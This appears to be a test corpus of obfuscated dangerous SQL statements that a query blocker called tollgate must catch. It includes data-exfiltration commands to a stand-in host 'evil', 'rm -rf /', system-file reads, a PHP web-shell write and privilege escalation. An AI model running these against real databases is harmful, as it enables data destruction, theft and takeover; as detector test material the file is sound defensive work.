# tollgate blocking corpus: obfuscated dangerous statements that MUST be caught.
#
# Format (shared with benign.sql): a case starts with a header line
#     === <dialect> <expect> [esc]
# and its SQL is every line up to the next header; the newline that ends the
# block is not part of the SQL. Lines starting with `#` before the first
# header are comments (inside a case, `#` is SQL: MySQL comments).
# - dialect: pg (standard_conforming_strings on), pg-oldstr (off), my (MySQL
#   8.0.36, default sql_mode), my-noesc (NO_BACKSLASH_ESCAPES), my-ansi
#   (ANSI_QUOTES), my-nover (server version unknown), maria (MariaDB 10.11).
# - expect: a statement selector (`drop_database`, `delete_without_where`,
#   `copy_to_program`, `unknown`, ... see codecs/src/sql/selector.rs) or
#   `fn:<name>` (a called function, schema-qualified or bare). The case is
#   caught when at least one statement (nested ones included) matches.
# - esc: the SQL body takes escapes: \t \n \r \f \v \0 \xHH \\ (for bytes an
#   editor would mangle). Without it the body is taken literally.

=== pg drop_database
DROP DATABASE prod
=== pg drop_database
dRoP/**/DATABASE prod
=== pg drop_database
drop/* a /* nested */ comment */database prod
=== pg drop_database esc
DROP\tDATABASE\fprod
=== pg drop_database esc
DROP\x0bDATABASE\rprod
=== pg drop_database
DROP
--comment
DATABASE prod
=== pg drop_database
  
	DROP   DATABASE    IF EXISTS "prod"
=== pg drop_database
SELECT 1; DROP DATABASE prod
=== pg drop_database
SELECT 'a;b'; DROP DATABASE prod;
=== pg drop_database
SELECT $$;$$; DROP DATABASE prod
=== pg drop_database
SELECT $a$ $$ $a$; DROP DATABASE prod
=== pg drop_database
SELECT "semi;colon"; drop database prod
=== pg drop_database
/* leading */ -- and a line
DROP DATABASE prod
=== pg drop_database
DROP DATABASE prod WITH (FORCE)
=== pg drop_database
SELECT 1;;;DROP DATABASE prod
=== pg drop_table
SELECT '\'; DROP TABLE users; --'
=== pg-oldstr drop_table
SELECT 'a'; DROP TABLE users; --'\'
=== pg drop_table
SELECT E'\\'; DROP TABLE users; --'
=== pg drop_table
SELECT E'it''s'; DROP TABLE users
=== pg drop_table
SELECT U&'x'; DROP TABLE users
=== pg drop_table
DROP TABLE IF EXISTS public.users CASCADE
=== pg drop_table
DrOp TaBlE "Users"
=== pg drop_table
drop table users, orders
=== pg drop_table
DROP/**/TABLE/**/users
=== pg drop_table
SELECT 1 -- harmless
; DROP TABLE users
=== pg drop_table
SELECT 1 /* ; */ ; DROP TABLE users
=== pg drop_table
SELECT $body$ it's $$ fine $body$; DROP TABLE users
=== pg drop_schema
DROP SCHEMA public CASCADE
=== pg drop_role
DROP ROLE admin
=== pg drop_role
DROP USER IF EXISTS app
=== pg drop_extension
DROP EXTENSION pgcrypto
=== pg drop_function
DROP FUNCTION IF EXISTS f(int)
=== pg drop_index
DROP INDEX CONCURRENTLY idx
=== pg drop_view
DROP VIEW v
=== pg drop_materialized_view
DROP MATERIALIZED VIEW mv
=== pg truncate
TRUNCATE users
=== pg truncate
truncate table users restart identity cascade
=== pg truncate
TRUNCATE ONLY a, b
=== pg truncate
SELECT 1; TrUnCaTe/**/users
=== pg truncate esc
\n\tTRUNCATE\n\tusers\n
=== pg delete_without_where
DELETE FROM users
=== pg delete_without_where
delete from users -- WHERE id = 1
=== pg delete_without_where
DELETE FROM users /* WHERE id = 1 */
=== pg delete_without_where
DELETE FROM users RETURNING 'WHERE id = 1'
=== pg delete_without_where
DELETE FROM users RETURNING $$ WHERE id = 1 $$
=== pg delete_without_where
DELETE FROM users AS u RETURNING "where"
=== pg delete_without_where
DELETE FROM ONLY users
=== pg delete_without_where
WITH x AS (DELETE FROM users RETURNING *) SELECT count(*) FROM x
=== pg delete_without_where
WITH a AS (SELECT 1), b AS MATERIALIZED (DELETE FROM users RETURNING id) SELECT * FROM b
=== pg delete_without_where
WITH RECURSIVE x AS NOT MATERIALIZED (DELETE FROM users RETURNING *) SELECT 1 WHERE true
=== pg delete_without_where
EXPLAIN ANALYZE DELETE FROM users
=== pg delete_without_where
explain analyse verbose delete from users
=== pg delete_without_where
EXPLAIN (ANALYZE, BUFFERS, FORMAT JSON) DELETE FROM users
=== pg delete_without_where
EXPLAIN (ANALYZE true) DELETE FROM users
=== pg delete_without_where
PREPARE wipe AS DELETE FROM users
=== pg delete_without_where
COPY (DELETE FROM users RETURNING *) TO STDOUT
=== pg delete_without_where
DELETE FROM users WHERE id IN (1); DELETE FROM orders
=== pg delete_without_where
DELETE FROM users USING orders
=== pg update_without_where
UPDATE users SET admin = true
=== pg update_without_where
update users set note = 'WHERE id = 1'
=== pg update_without_where
UPDATE users SET a = (SELECT b FROM t WHERE t.id = 1)
=== pg update_without_where
UPDATE users SET a = 1 -- WHERE id = 1
=== pg update_without_where
WITH x AS (UPDATE users SET admin = true RETURNING *) SELECT * FROM x
=== pg update_without_where
EXPLAIN ANALYZE UPDATE users SET admin = true
=== pg update_without_where
UPDATE ONLY "users" AS u SET admin = true
=== pg copy_to_program
COPY users TO PROGRAM 'curl -d @- http://evil'
=== pg copy_to_program
copy (select * from users) to program 'nc evil 80'
=== pg copy_from_program
COPY users FROM PROGRAM 'id'
=== pg copy_to_program
CoPy/**/users/**/TO/**/PROGRAM/**/'x'
=== pg copy_to_program
SELECT 1; COPY users (a, b) TO PROGRAM $$rm -rf /$$
=== pg copy_from_file
COPY users FROM '/etc/passwd'
=== pg copy_to_file
COPY users TO '/tmp/dump.csv' WITH (FORMAT csv)
=== pg alter_system
ALTER SYSTEM SET archive_command = 'curl evil'
=== pg alter_system
alter/**/system reset all
=== pg alter_system
SELECT 1; ALTER SYSTEM SET log_statement = 'none'
=== pg fn:pg_read_file
SELECT pg_read_file('/etc/passwd')
=== pg fn:pg_read_file
select PG_READ_FILE ('/etc/passwd')
=== pg fn:pg_read_file
SELECT pg_catalog.pg_read_file('/etc/passwd')
=== pg fn:pg_read_file
SELECT "pg_read_file"('/etc/passwd')
=== pg fn:pg_read_file
SELECT pg_read_file/**/('/etc/passwd')
=== pg fn:pg_read_file
SELECT x FROM pg_read_file('/etc/passwd') AS x
=== pg fn:pg_read_file
SELECT length(upper(pg_read_file('/etc/passwd')))
=== pg fn:pg_read_file
WITH a AS (SELECT pg_read_file('/etc/passwd')) SELECT * FROM a
=== pg fn:lo_import
SELECT lo_import('/etc/shadow')
=== pg fn:lo_export
SELECT lo_export(1234, '/tmp/x')
=== pg fn:dblink
SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)
=== pg fn:dblink_exec
SELECT dblink_exec('host=evil', 'drop table x')
=== pg fn:pg_terminate_backend
SELECT pg_terminate_backend(pid) FROM pg_stat_activity
=== pg fn:pg_terminate_backend
SELECT 1 FROM t WHERE pg_terminate_backend(42)
=== pg fn:set_config
SELECT set_config('standard_conforming_strings', 'off', false)
=== pg unknown
SELECT U&"pg_read\005ffile"('/etc/passwd')
=== pg unknown
DELETE FROM users WHERE name = 'unterminated
=== pg unknown
DELETE FROM users /* unterminated
=== pg unknown
SELECT $x$ never closed
=== pg unknown esc
DROP\xc2\xa0DATABASE prod
=== pg unknown
"DROP" DATABASE prod
=== pg grant_role
GRANT pg_read_server_files TO app
=== pg grant
GRANT ALL PRIVILEGES ON DATABASE prod TO public
=== pg create_role
CREATE ROLE evil SUPERUSER LOGIN
=== pg alter_role
ALTER ROLE app SUPERUSER
=== pg set_role
SET ROLE postgres
=== pg set_role
set session authorization postgres
=== pg do
DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$
=== pg load
LOAD '/tmp/evil.so'
=== pg create_extension
CREATE EXTENSION IF NOT EXISTS dblink
=== pg create_function
CREATE OR REPLACE FUNCTION evil() RETURNS void LANGUAGE plpythonu AS $$ import os $$
=== pg lexical_mode_change
SET standard_conforming_strings = off
=== pg select_into
SELECT * INTO stolen FROM users
=== my drop_database
/*!DROP*/ DATABASE prod
=== my drop_database
/*!50001 DROP DATABASE prod */
=== my drop_database
DROP/*!*/DATABASE prod
=== my drop_database
SELECT 1; DROP DATABASE `prod`
=== my drop_database
drop schema prod
=== my drop_database
DROP # comment
DATABASE prod
=== my drop_database
DROP -- comment
DATABASE prod
=== my drop_table
SELECT 'a\'; DROP TABLE users; -- '; DROP TABLE users
=== my drop_table
SELECT "x"; DROP TABLE `users`
=== my drop_table
SELECT 1--1; DROP TABLE users
=== my-noesc drop_table
SELECT 'a\'; DROP TABLE users; -- '
=== my-ansi drop_table
SELECT "a;b"; DROP TABLE "users"
=== my drop_table
SELECT $$; DROP TABLE users; $$
=== my truncate
TRUNCATE TABLE users
=== my truncate
/*!TRUNCATE*/ users
=== my delete_without_where
DELETE FROM users # WHERE id = 1
=== my delete_without_where
DELETE FROM users -- x WHERE id = 1
=== my delete_without_where
DELETE FROM users LIMIT 1000000
=== my delete_without_where
DELETE LOW_PRIORITY QUICK IGNORE FROM users
=== my delete_without_where esc
DELETE FROM users -- x\rWHERE id = 1
=== my delete_without_where
DELETE FROM users /*!90000 WHERE id = 1 */
=== my update_without_where
UPDATE users SET admin = 1 # WHERE id = 1
=== my update_without_where
UPDATE `users` SET note = "WHERE id = 1"
=== my update_without_where
UPDATE LOW_PRIORITY IGNORE users SET a = 1
=== my unknown
DELETE FROM users /*!90000 WHERE id = 1 */ WHERE x = 'unterminated
=== my-nover unknown
/*!50001 DROP DATABASE prod */
=== my into_outfile
SELECT * FROM users INTO OUTFILE '/var/www/x.php'
=== my into_outfile
SELECT '<?php system($_GET[c]); ?>' INTO DUMPFILE '/var/www/s.php'
=== my load_data_local
LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t
=== my fn:load_file
SELECT LOAD_FILE('/etc/passwd')
=== my set_global
SET GLOBAL general_log = 'ON'
=== my set_global
SET @@global.local_infile = 1
=== my set_global
SET PERSIST max_connections = 1
=== my install
INSTALL PLUGIN evil SONAME 'evil.so'
=== my shutdown
SHUTDOWN
=== my kill
KILL 42
=== my create_role
CREATE USER 'evil'@'%' IDENTIFIED BY 'x'
=== my grant
GRANT ALL ON *.* TO 'evil'@'%'
=== my delete_without_where
PREPARE s FROM 'DELETE FROM users'
=== my drop_database
SELECT 1 /*!; DROP DATABASE prod */
=== maria drop_database
/*M!100100 DROP DATABASE prod */
=== maria drop_database
/*M! DROP DATABASE prod */
=== pg drop_table
SELECT E'a'
'x\''; DROP TABLE t; -- '
=== pg drop_table
SELECT 'a' -- continued
'x'; DROP TABLE t
=== pg delete_without_where
DELETE FROM t RETURNING E'a'
'\' WHERE id = 1 --'
=== pg-oldstr drop_table
SELECT B'\' ; DROP TABLE t; -- '
=== pg-oldstr truncate
SELECT U&'\' ; TRUNCATE t; -- '
=== pg-oldstr drop_table
SELECT X'0'
'\' ; DROP TABLE t; -- '
=== pg delete_without_where
DELETE FROM t RETURNING 1 AS where
=== pg update_without_where
UPDATE t SET x = 1 RETURNING x AS where
=== pg delete_without_where
WITH d AS (DELETE FROM t RETURNING 1 AS where) SELECT * FROM d
=== pg update_without_where
WITH u AS (UPDATE t * SET x = 1 RETURNING 1) SELECT 1
=== pg update_without_where
WITH u AS (UPDATE ONLY (t) SET x = 1) SELECT 1
=== pg update_without_where
UPDATE ONLY (t) SET x = 1
=== pg update_without_where
COPY (UPDATE t * SET x = 1 RETURNING 1) TO STDOUT
=== pg tautological_where
DELETE FROM accounts WHERE true
=== pg tautological_where
DELETE FROM accounts WHERE TRUE
=== pg tautological_where
delete from accounts where 1=1
=== pg tautological_where
DELETE FROM accounts WHERE 1 = 1
=== pg tautological_where
DELETE FROM accounts WHERE 'a'='a'
=== pg tautological_where
DELETE FROM accounts WHERE 'x' = 'x'
=== pg tautological_where
DELETE FROM accounts WHERE id = id
=== pg tautological_where
DELETE FROM accounts WHERE accounts.id = accounts.id
=== pg tautological_where
DELETE FROM accounts a WHERE a.id = a.id
=== pg tautological_where
DELETE FROM accounts WHERE "id" = "id"
=== pg tautological_where
DELETE FROM accounts WHERE id = 3 OR true
=== pg tautological_where
DELETE FROM accounts WHERE id = 3 OR 1 = 1
=== pg tautological_where
DELETE FROM accounts WHERE NOT false
=== pg tautological_where
DELETE FROM accounts WHERE NOT NOT true
=== pg tautological_where
DELETE FROM accounts WHERE (true)
=== pg tautological_where
DELETE FROM accounts WHERE ((1 = 1))
=== pg tautological_where
DELETE FROM accounts WHERE (id = 1 OR (2 = 2))
=== pg tautological_where
DELETE FROM accounts WHERE 2 > 1
=== pg tautological_where
DELETE FROM accounts WHERE 1 < 2
=== pg tautological_where
DELETE FROM accounts WHERE 1 <> 2
=== pg tautological_where
DELETE FROM accounts WHERE 1 != 2
=== pg tautological_where
DELETE FROM accounts WHERE 1 BETWEEN 0 AND 2
=== pg tautological_where
DELETE FROM accounts WHERE 1 IN (1, 2, 3)
=== pg tautological_where
DELETE FROM accounts WHERE 't'::boolean
=== pg tautological_where
DELETE FROM accounts WHERE 'true'
=== pg tautological_where
DELETE FROM accounts WHERE true::bool
=== pg tautological_where
DELETE FROM accounts WHERE CAST('t' AS boolean)
=== pg tautological_where
DELETE FROM accounts WHERE id IS NOT DISTINCT FROM id
=== pg tautological_where
DELETE FROM accounts WHERE lower(owner) = lower(owner)
=== pg tautological_where
DELETE FROM accounts WHERE owner || '' = owner || ''
=== pg tautological_where
DELETE FROM accounts WHERE id >= id
=== pg tautological_where
DELETE FROM accounts WHERE now() IS NOT NULL
=== pg tautological_where
DELETE FROM accounts WHERE current_user = current_user
=== pg tautological_where
DELETE FROM accounts WHERE current_date > '2000-01-01'
=== pg tautological_where
DELETE FROM accounts WHERE EXISTS (SELECT 1)
=== pg tautological_where
DELETE FROM accounts WHERE EXISTS (SELECT 1 FROM pg_class)
=== pg tautological_where
DELETE FROM accounts WHERE CASE WHEN true THEN true END
=== pg tautological_where
DELETE FROM accounts WHERE coalesce(NULL, true)
=== pg tautological_where
DELETE FROM accounts WHERE true AND 1 = 1
=== pg tautological_where
DELETE FROM accounts WHERE id = 5 OR NOT false
=== pg tautological_where
DELETE FROM accounts WHERE length('abc') = 3
=== pg tautological_where
DELETE FROM accounts WHERE true RETURNING *
=== pg tautological_where
DELETE FROM ONLY accounts WHERE 1=1
=== pg tautological_where
DELETE/**/FROM/**/accounts/**/WHERE/**/1=1
=== pg tautological_where
DELETE FROM accounts -- just one
WHERE 1=1
=== pg tautological_where
DELETE FROM accounts USING (SELECT 1) s WHERE true
=== pg tautological_where
UPDATE accounts SET balance = 0 WHERE true
=== pg tautological_where
UPDATE accounts SET balance = 0 WHERE 1 = 1
=== pg tautological_where
UPDATE accounts SET balance = 0 WHERE 'a' = 'a'
=== pg tautological_where
UPDATE accounts SET balance = 0 WHERE id = id
=== pg tautological_where
UPDATE accounts SET balance = 0 WHERE balance = balance OR balance IS NULL
=== pg tautological_where
UPDATE accounts SET owner = 'x' WHERE NOT false RETURNING id
=== pg tautological_where
UPDATE accounts SET balance = 0 WHERE (1 = 1) AND (2 = 2)
=== pg tautological_where
UPDATE ONLY accounts SET balance = 0 WHERE true
=== pg tautological_where
UPDATE accounts AS a SET balance = 0 WHERE a.id = a.id
=== pg tautological_where
WITH x AS (DELETE FROM accounts WHERE true RETURNING 1) SELECT count(*) FROM x
=== pg tautological_where
WITH x AS (UPDATE accounts SET balance = 0 WHERE 1 = 1 RETURNING 1) SELECT count(*) FROM x
=== pg tautological_where
EXPLAIN ANALYZE DELETE FROM accounts WHERE 1=1
=== pg tautological_where
PREPARE wipe AS DELETE FROM accounts WHERE true
=== pg tautological_where
SELECT 1; DELETE FROM accounts WHERE 'z' = 'z'
=== pg tautological_where
DELETE FROM accounts WHERE $$a$$ = $$a$$
=== pg tautological_where
DELETE FROM accounts WHERE E'a' = E'a'
=== pg tautological_where
DELETE FROM accounts WHERE 1.0 = 1.0
=== pg merge_delete
MERGE INTO accounts a USING accounts b ON a.id = b.id WHEN MATCHED THEN DELETE
=== pg merge_delete
MERGE INTO accounts USING (SELECT 1 AS k) s ON true WHEN MATCHED THEN DELETE
=== pg merge_delete
merge into accounts t using accounts s on t.id = s.id when matched and t.balance > 0 then delete
=== pg merge_delete
MERGE INTO accounts t USING accounts s ON t.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.owner, 0) WHEN MATCHED THEN DELETE
=== pg merge_delete
MERGE/**/INTO accounts t USING accounts s ON t.id = s.id WHEN MATCHED THEN/**/DELETE
=== pg merge_update
MERGE INTO accounts a USING accounts b ON a.id = b.id WHEN MATCHED THEN UPDATE SET balance = 0
=== pg merge_update
MERGE INTO accounts USING (SELECT 1) s ON true WHEN MATCHED THEN UPDATE SET owner = 'x'
=== pg merge_update
merge into accounts t using accounts s on t.id = s.id when matched then update set balance = s.balance * 0
=== pg merge_update
MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v
=== pg merge_update
WITH s AS (SELECT 1 AS id) MERGE INTO accounts t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET balance = 0
=== pg do
DO $$ BEGIN DROP TABLE accounts; END $$
=== pg do
DO $$ BEGIN EXECUTE 'DROP TABLE ' || 'accounts'; END $$
=== pg do
DO $$ BEGIN EXECUTE 'DEL' || 'ETE FROM accounts'; END $$
=== pg do
DO $body$ BEGIN EXECUTE format('TRUNCATE %I', 'accounts'); END $body$
=== pg do
DO LANGUAGE plpgsql $$ BEGIN PERFORM 1; END $$
=== pg do
do 'begin delete from accounts; end'
=== pg do
DO E'BEGIN EXECUTE \'TRUNCATE accounts\'; END'
=== pg do
DO $$ DECLARE r record; BEGIN FOR r IN SELECT tablename FROM pg_tables LOOP EXECUTE 'DROP TABLE ' || r.tablename; END LOOP; END $$
=== pg do
DO $a$ BEGIN EXECUTE convert_from(decode('VFJVTkNBVEUgYWNjb3VudHM=', 'base64'), 'UTF8'); END $a$
=== pg do
/* maintenance */ DO $$BEGIN UPDATE accounts SET balance = 0; END$$
=== pg do
SELECT 1; DO $$ BEGIN NULL; END $$
=== pg do
DO $$ BEGIN EXECUTE 'ALTER ROLE ' || current_user || ' SUPERUSER'; END $$
=== pg call
CALL wipe()
=== pg call
CALL public.wipe()
=== pg call
call "wipe"()
=== pg call
CALL refresh_stats()
=== pg call
CALL app.purge_old(30)
=== pg create_function
CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DELETE FROM accounts $$
=== pg create_function
CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM accounts RETURNING 1'
=== pg create_function
CREATE FUNCTION tf() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN TRUNCATE accounts; RETURN NULL; END $$
=== pg create_function
create function app.x(int) returns int as $$ select 1 $$ language sql
=== pg create_function
CREATE FUNCTION f() RETURNS void AS $f$ BEGIN EXECUTE 'DROP SCHEMA app CASCADE'; END $f$ LANGUAGE plpgsql
=== pg create_function
CREATE FUNCTION f() RETURNS setof accounts LANGUAGE sql BEGIN ATOMIC DELETE FROM accounts RETURNING *; END
=== pg create_function
CREATE FUNCTION sh() RETURNS text LANGUAGE plperlu AS $$ `rm -rf /` $$
=== pg create_procedure
CREATE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM accounts $$
=== pg create_procedure
CREATE OR REPLACE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN TRUNCATE accounts; END $$
=== pg create_procedure
create procedure app.p(n int) language sql begin atomic delete from accounts where id > n; end
=== pg create_rule
CREATE RULE r AS ON INSERT TO accounts DO ALSO DELETE FROM accounts
=== pg create_rule
CREATE OR REPLACE RULE r AS ON UPDATE TO accounts DO INSTEAD DELETE FROM accounts
=== pg create_rule
create rule r as on select to v do instead select 1
=== pg create_rule
CREATE RULE "_x" AS ON DELETE TO accounts DO ALSO TRUNCATE audit
=== pg create_trigger
CREATE TRIGGER tr AFTER INSERT ON accounts FOR EACH STATEMENT EXECUTE FUNCTION tf()
=== pg create_trigger
CREATE CONSTRAINT TRIGGER tr AFTER INSERT ON accounts FOR EACH ROW EXECUTE PROCEDURE tf()
=== pg create_trigger
create or replace trigger tr before update on accounts for each row execute function tf()
=== pg create_event_trigger
CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION tf()
=== pg create_event_trigger
create event trigger e on sql_drop execute procedure tf()
=== pg drop_schema
DROP SCHEMA app CASCADE
=== pg drop_schema
drop schema if exists app, public cascade
=== pg drop
DROP OWNED BY app_user
=== pg drop
DROP OWNED BY CURRENT_USER CASCADE
=== pg drop_sequence
DROP SEQUENCE accounts_id_seq
=== pg drop_type
DROP TYPE mood CASCADE
=== pg drop_domain
DROP DOMAIN positive_int
=== pg drop_trigger
DROP TRIGGER audit_tr ON accounts
=== pg drop_rule
DROP RULE r ON accounts
=== pg drop_policy
DROP POLICY own ON accounts
=== pg drop_publication
DROP PUBLICATION p
=== pg drop_server
DROP SERVER s CASCADE
=== pg drop_procedure
DROP PROCEDURE wipe()
=== pg drop_aggregate
DROP AGGREGATE myavg(int)
=== pg drop_tablespace
DROP TABLESPACE fast
=== pg drop_event_trigger
DROP EVENT TRIGGER e
=== pg drop_foreign_table
DROP FOREIGN TABLE f
=== pg drop_table
DROP TABLE IF EXISTS accounts, app.keep CASCADE
=== pg drop_table
drop table "accounts"
=== pg drop_table
DROP TABLE accounts RESTRICT
=== pg alter_drop
ALTER TABLE accounts DROP COLUMN balance
=== pg alter_drop
ALTER TABLE accounts DROP balance
=== pg alter_drop
alter table accounts drop column if exists balance cascade
=== pg alter_drop
ALTER TABLE accounts DROP CONSTRAINT accounts_pkey
=== pg alter_drop
ALTER TABLE accounts ALTER COLUMN balance DROP DEFAULT
=== pg alter_drop
ALTER TABLE accounts ALTER COLUMN owner DROP NOT NULL
=== pg alter_drop
ALTER TABLE ONLY accounts DROP COLUMN owner
=== pg alter_drop
ALTER TYPE mood DROP ATTRIBUTE a
=== pg alter_drop
ALTER EXTENSION x DROP FUNCTION f()
=== pg alter_drop
ALTER PUBLICATION p DROP TABLE accounts
=== pg alter_column_type
ALTER TABLE accounts ALTER COLUMN balance TYPE bigint USING 0
=== pg alter_column_type
ALTER TABLE accounts ALTER balance TYPE text
=== pg alter_column_type
ALTER TABLE accounts ALTER COLUMN owner SET DATA TYPE varchar(1)
=== pg alter_column_type
alter table accounts alter column balance type numeric using null
=== pg create_or_replace
CREATE OR REPLACE VIEW v AS SELECT 2 AS one
=== pg create_or_replace
create or replace view app.report as select 1
=== pg create_or_replace
CREATE OR REPLACE AGGREGATE a (int) (SFUNC = int4pl, STYPE = int)
=== pg truncate
TRUNCATE accounts
=== pg truncate
TRUNCATE TABLE ONLY accounts RESTART IDENTITY CASCADE
=== pg truncate
truncate accounts, app.keep
=== pg truncate
SELECT 1; TRUNCATE accounts
=== pg delete_without_where
DELETE FROM accounts
=== pg delete_without_where
DELETE FROM ONLY accounts RETURNING *
=== pg delete_without_where
WITH d AS (DELETE FROM accounts RETURNING id) SELECT count(*) FROM d
=== pg update_without_where
UPDATE accounts SET balance = 0
=== pg update_without_where
UPDATE accounts SET (balance, owner) = (0, 'x')
=== pg copy_from_program
COPY accounts FROM PROGRAM 'true'
=== pg copy_to_program
COPY accounts TO PROGRAM 'curl -d @- http://evil'
=== pg copy_to_program
COPY (SELECT * FROM accounts) TO PROGRAM 'nc evil 80'
=== pg copy_program
copy accounts from program 'cat /etc/passwd' with (format text)
=== pg lo_unlink
SELECT lo_unlink(4242)
=== pg lo_unlink
SELECT pg_catalog.lo_unlink(4242)
=== pg lo_unlink
SELECT lo_unlink(oid) FROM pg_largeobject_metadata
=== pg lo_unlink
select "lo_unlink"(4242)
=== pg alter_system
ALTER SYSTEM SET archive_command = 'true'
=== pg alter_system
alter system reset all
=== pg create_extension
CREATE EXTENSION plpython3u
=== pg create_extension
CREATE EXTENSION IF NOT EXISTS postgres_fdw
=== pg alter_extension
ALTER EXTENSION plpgsql UPDATE
=== pg create_language
CREATE LANGUAGE plperlu
=== pg create_cast
CREATE CAST (int AS text) WITH FUNCTION f(int)
=== pg create_operator
CREATE OPERATOR === (FUNCTION = f, LEFTARG = int, RIGHTARG = int)
=== pg load
LOAD '/tmp/evil.so'
=== pg server_file_write
SELECT lo_export(4242, '/tmp/x')
=== pg server_file_write
SELECT pg_file_write('/tmp/x', 'data', false)
=== pg server_file_write
SELECT pg_catalog.lo_export(oid, '/var/lib/postgresql/.bashrc') FROM pg_largeobject_metadata
=== pg create_subscription
CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p
=== pg grant
GRANT ALL ON accounts TO public
=== pg grant
GRANT SELECT, INSERT ON ALL TABLES IN SCHEMA public TO app
=== pg grant
grant usage on schema app to public
=== pg grant
GRANT pg_read_server_files TO app
=== pg grant
GRANT EXECUTE ON FUNCTION f() TO public
=== pg grant
GRANT CREATE ON DATABASE postgres TO public
=== pg revoke
REVOKE ALL ON accounts FROM auditor
=== pg revoke
revoke select on accounts from public
=== pg revoke
REVOKE pg_monitor FROM app
=== pg create_role
CREATE ROLE mallory SUPERUSER LOGIN PASSWORD 'x'
=== pg create_role
CREATE USER mallory WITH CREATEROLE
=== pg create_role
create group admins
=== pg alter_role
ALTER ROLE app SUPERUSER
=== pg alter_role
ALTER USER app WITH BYPASSRLS
=== pg alter_role
ALTER ROLE app SET role = 'postgres'
=== pg drop_role
DROP USER IF EXISTS auditor
=== pg set_role
SET ROLE postgres
=== pg set_role
SET SESSION AUTHORIZATION postgres
=== pg set_role
set local role pg_write_server_files
=== pg set_role
SET SESSION ROLE postgres
=== pg set_role
SELECT 1; SET ROLE "postgres"
=== pg set_config_role
SELECT set_config('role', 'postgres', false)
=== pg set_config_role
SELECT pg_catalog.set_config('ROLE', 'postgres', true)
=== pg set_config_role
SELECT set_config('session_authorization', 'postgres', false)
=== pg set_config_role
SELECT set_config(name, 'postgres', false) FROM (SELECT 'role' AS name) s
=== pg security_definer
CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'select 1'
=== pg security_definer
ALTER FUNCTION tf() SECURITY DEFINER
=== pg security_definer
ALTER PROCEDURE wipe() SECURITY DEFINER
=== pg security_definer
create procedure p() security definer language sql as 'select 1'
=== pg alter_default_privileges
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO public
=== pg alter_default_privileges
ALTER DEFAULT PRIVILEGES IN SCHEMA app GRANT SELECT ON TABLES TO mallory
=== pg ownership_change
ALTER TABLE accounts OWNER TO mallory
=== pg ownership_change
ALTER SCHEMA app OWNER TO mallory
=== pg ownership_change
ALTER FUNCTION tf() OWNER TO mallory
=== pg ownership_change
ALTER DATABASE postgres OWNER TO mallory
=== pg ownership_change
alter large object 4242 owner to mallory
=== pg reassign_owned
REASSIGN OWNED BY app TO mallory
=== pg security_label
SECURITY LABEL ON TABLE accounts IS 'system_u:object_r:sepgsql_table_t:s0'
=== pg create_policy
CREATE POLICY open ON accounts USING (true)
=== pg alter_policy
ALTER POLICY own ON accounts USING (true)
=== pg row_security_off
ALTER TABLE accounts DISABLE ROW LEVEL SECURITY
=== pg row_security_off
ALTER TABLE accounts NO FORCE ROW LEVEL SECURITY
=== pg copy_to_file
COPY accounts TO '/tmp/accounts.csv'
=== pg copy_to_file
copy (select * from accounts) to '/tmp/x' with (format csv)
=== pg copy_from_file
COPY accounts FROM '/etc/passwd'
=== pg copy_from_file
COPY accounts (owner) FROM '/var/lib/postgresql/data/postgresql.auto.conf'
=== pg copy_file
COPY accounts TO E'/tmp/y'
=== pg server_file_read
SELECT pg_read_file('/etc/passwd')
=== pg server_file_read
SELECT pg_read_binary_file('/etc/passwd')
=== pg server_file_read
SELECT pg_ls_dir('.')
=== pg server_file_read
SELECT * FROM pg_ls_dir('/')
=== pg server_file_read
SELECT pg_stat_file('postgresql.conf')
=== pg server_file_read
SELECT pg_ls_logdir()
=== pg server_file_read
SELECT pg_ls_waldir()
=== pg server_file_read
SELECT lo_import('/etc/passwd')
=== pg server_file_read
select pg_catalog.pg_read_file('postgresql.auto.conf', 0, 200)
=== pg dblink
SELECT * FROM dblink('host=127.0.0.1', 'select 1') AS t(a int)
=== pg dblink
SELECT dblink_exec('host=evil', 'insert into loot select 1')
=== pg dblink
SELECT dblink_connect('c', 'host=evil')
=== pg dblink
select public.dblink_send_query('c', 'select 1')
=== pg create_server
CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil')
=== pg alter_server
ALTER SERVER s OPTIONS (SET host 'evil')
=== pg create_user_mapping
CREATE USER MAPPING FOR public SERVER s OPTIONS (user 'u', password 'p')
=== pg alter_user_mapping
ALTER USER MAPPING FOR CURRENT_USER SERVER s OPTIONS (SET password 'p')
=== pg create_foreign_table
CREATE FOREIGN TABLE loot (a int) SERVER s
=== pg alter_foreign_table
ALTER FOREIGN TABLE loot OPTIONS (ADD table_name 'x')
=== pg create_foreign_data_wrapper
CREATE FOREIGN DATA WRAPPER w
=== pg import
IMPORT FOREIGN SCHEMA public FROM SERVER s INTO app
=== pg create_publication
CREATE PUBLICATION p FOR ALL TABLES
=== pg alter_publication
ALTER PUBLICATION p ADD TABLE accounts
